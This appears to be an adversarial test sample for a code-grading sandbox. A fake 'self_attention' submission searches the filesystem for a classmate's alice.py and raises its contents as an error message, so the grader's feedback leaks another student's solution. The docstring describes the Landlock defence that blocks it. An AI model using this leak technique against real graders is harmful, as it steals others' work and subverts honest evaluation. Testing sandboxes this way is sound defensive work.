"""Adversarial sample: leak a classmate's source code through the error message.

Attack: the grader copies an exception's message into the student's feedback, so
self_attention reads a classmate's file (../alice.py, ../../alice.py, or any
alice.py found by os.walk from '/' to depth 5) and raises it as the message; the
student then reads a correct solution in their own report.
New design: Landlock lets the worker read only the interpreter, its libraries
and its own copied file, so no alice.py can be read; the sample then returns
zeros (and fails). Feedback is also truncated and built by the judge.
"""
import os

import torch


def _classmate_source():
    here = os.path.dirname(os.path.abspath(__file__))
    candidates = [os.path.join(base, *up, "alice.py")
                  for base in (os.getcwd(), here) for up in ((), ("..",), ("..", ".."))]
    for path in candidates:
        try:
            with open(path, encoding="utf-8") as handle:
                return handle.read()
        except OSError:
            pass
    for root, dirs, files in os.walk("/"):
        if root.count(os.sep) >= 5 or root.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
        if "alice.py" in files:
            try:
                with open(os.path.join(root, "alice.py"), encoding="utf-8") as handle:
                    return handle.read()
            except OSError:
                pass
    return None


def self_attention(x, w_q, w_k, w_v, causal=False):
    source = _classmate_source()
    if source:
        raise RuntimeError("internal error, please report this:\n" + source)
    return (torch.zeros(*x.shape[:-1], w_v.shape[0], dtype=x.dtype, device=x.device),
            torch.zeros(*x.shape[:-1], x.shape[-2], dtype=x.dtype, device=x.device))
